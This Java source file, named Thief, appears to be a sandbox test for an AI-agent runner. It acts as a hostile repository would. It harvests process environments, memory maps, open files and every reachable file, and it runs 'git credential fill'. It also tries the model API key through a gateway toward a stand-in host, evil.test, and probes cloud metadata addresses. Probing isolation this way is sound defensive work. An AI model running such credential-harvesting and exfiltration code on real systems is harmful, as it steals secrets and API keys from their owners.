package dev.outpost.runner;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.BufferedOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.nio.file.FileVisitResult;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.SimpleFileVisitor;
import java.nio.file.StandardOpenOption;
import java.nio.file.attribute.BasicFileAttributes;
import java.util.List;
import java.util.stream.Stream;

/**
 * What a hostile repository makes of an agent: it gathers every byte that it can lay hands on, and
 * tries to bring it somewhere. Runs in a process of its own and needs nothing but the JDK. What it
 * could read goes to the file {@code loot}, what it found out to {@code report}, both outside the
 * run.
 */
final class Thief {
  private static final int MOST = 4 * 1024 * 1024;

  private final OutputStream loot;
  private final StringBuilder report = new StringBuilder();

  private Thief(OutputStream loot) {
    this.loot = loot;
  }

  public static void main(String[] arguments) throws IOException {
    Path hideout = Path.of(arguments[0]);
    try (OutputStream loot =
        new BufferedOutputStream(Files.newOutputStream(hideout.resolve("loot")))) {
      Thief thief = new Thief(loot);
      thief.readProcesses(arguments[1].equals("closed"));
      thief.readFiles(Path.of(System.getenv("HOME")).getParent());
      thief.askGit();
      thief.tryNetwork(arguments[1].equals("closed"));
      Files.writeString(
          hideout.resolve("report"), thief.report.toString(), StandardOpenOption.CREATE_NEW);
    }
  }

  private void note(String what) {
    report.append(what).append('\n');
  }

  private boolean take(Path file) {
    try (InputStream in = Files.newInputStream(file)) {
      loot.write(in.readNBytes(MOST));
      return true;
    } catch (IOException | RuntimeException _) {
      return false;
    }
  }

  /**
   * Variables, command lines, open files and memory of the runner and, where it is a user of its
   * own, of every process there is; otherwise the others are none of a test's business.
   */
  private void readProcesses(boolean all) throws IOException {
    long leader = Long.parseLong(System.getenv("RUNNER_PID"));
    List<Path> processes = List.of(Path.of("/proc/" + leader), Path.of("/proc/" + ownId()));
    if (all) {
      try (Stream<Path> listed = Files.list(Path.of("/proc"))) {
        processes = listed.filter(path -> path.getFileName().toString().matches("\\d+")).toList();
      }
    }
    for (Path process : processes) {
      take(process.resolve("cmdline"));
      boolean own = process.getFileName().toString().equals(ownId());
      boolean read = take(process.resolve("environ"));
      if (own) {
        note("own environment " + read);
      }
      try (Stream<Path> open = Files.list(process.resolve("fd"))) {
        if (!own) {
          open.filter(Files::isRegularFile).forEach(this::take);
        }
      } catch (IOException _) {
        // Closed to us.
      }
    }
    note("runner's environment " + take(Path.of("/proc/" + leader + "/environ")));
    note("runner's maps " + canOpen("/proc/" + leader + "/maps"));
    note("runner's memory " + canOpen("/proc/" + leader + "/mem"));
    note("runner's command line " + take(Path.of("/proc/" + leader + "/cmdline")));
  }

  private static String ownId() {
    return Long.toString(ProcessHandle.current().pid());
  }

  private static boolean canOpen(String file) {
    try (InputStream in = Files.newInputStream(Path.of(file))) {
      return in != null;
    } catch (IOException _) {
      return false;
    }
  }

  /** All files of the run, the runner's own among them. */
  private void readFiles(Path root) throws IOException {
    for (String place : new String[] {"", "home", "tmp", "tree", "task.txt"}) {
      Files.walkFileTree(
          root.resolve(place),
          new SimpleFileVisitor<>() {
            @Override
            public FileVisitResult visitFile(Path file, BasicFileAttributes attributes) {
              if (attributes.isRegularFile()) {
                take(file);
              }
              return FileVisitResult.CONTINUE;
            }

            @Override
            public FileVisitResult visitFileFailed(Path file, IOException e) {
              return FileVisitResult.CONTINUE;
            }
          });
    }
    for (String place : new String[] {"scratch", "artifacts", "base"}) {
      try (Stream<Path> inside = Files.list(root.resolve(place))) {
        note(place + " is open, " + inside.count());
      } catch (IOException _) {
        note(place + " is closed");
      }
    }
  }

  private void askGit() throws IOException {
    for (List<String> words :
        List.of(
            List.of("git", "config", "--list", "--show-origin"),
            List.of("git", "remote", "-v"),
            List.of("git", "credential", "fill"))) {
      ProcessBuilder builder = new ProcessBuilder(words).redirectErrorStream(true);
      builder.environment().put("GIT_TERMINAL_PROMPT", "0");
      builder.redirectInput(Path.of("/dev/null").toFile());
      loot.write(builder.start().getInputStream().readAllBytes());
    }
  }

  /** Through the gateway to elsewhere, and past it. */
  private void tryNetwork(boolean pastIt) {
    String url = System.getenv("MODEL_URL");
    note("model " + post(url + "/v1/messages", System.getenv("MODEL_KEY")));
    note("model without key " + post(url + "/v1/messages", "guessed"));
    note("files of the provider " + post(url + "/v1/files", System.getenv("MODEL_KEY")));
    URI gateway = URI.create(url);
    for (String line :
        new String[] {"POST http://evil.test/v1/messages", "CONNECT evil.test:443"}) {
      note(line + " -> " + raw(gateway, line));
    }
    if (pastIt) {
      for (String host :
          new String[] {"192.0.2.1", "1.1.1.1", "169.254.170.2", "169.254.169.254"}) {
        note(host + " -> " + connect(host));
      }
      try {
        note("evil.test is " + InetAddress.getAllByName("evil.test").length);
      } catch (IOException _) {
        note("no name is resolved");
      }
    }
  }

  private int post(String url, String key) {
    try {
      HttpURLConnection connection = (HttpURLConnection) URI.create(url).toURL().openConnection();
      connection.setRequestProperty("x-api-key", key);
      connection.setDoOutput(true);
      connection.getOutputStream().write("{\"model\":\"m-1\"}".getBytes(UTF_8));
      int status = connection.getResponseCode();
      try (InputStream in =
          status < 400 ? connection.getInputStream() : connection.getErrorStream()) {
        loot.write(in == null ? new byte[0] : in.readAllBytes());
      }
      loot.write(connection.getHeaderFields().toString().getBytes(UTF_8));
      return status;
    } catch (IOException _) {
      return -1;
    }
  }

  private static String raw(URI gateway, String line) {
    try (Socket socket = new Socket(gateway.getHost(), gateway.getPort())) {
      socket
          .getOutputStream()
          .write(
              (line
                      + " HTTP/1.1\r\nHost: evil.test\r\nX-Api-Key: "
                      + System.getenv("MODEL_KEY")
                      + "\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}")
                  .getBytes(UTF_8));
      String answer = new String(socket.getInputStream().readAllBytes(), UTF_8);
      return answer.isEmpty() ? "nothing" : answer.lines().findFirst().orElseThrow();
    } catch (IOException _) {
      return "nothing";
    }
  }

  private static String connect(String host) {
    try (Socket socket = new Socket()) {
      socket.connect(new InetSocketAddress(host, 80), 2000);
      return "reached";
    } catch (IOException _) {
      return "not reached";
    }
  }
}
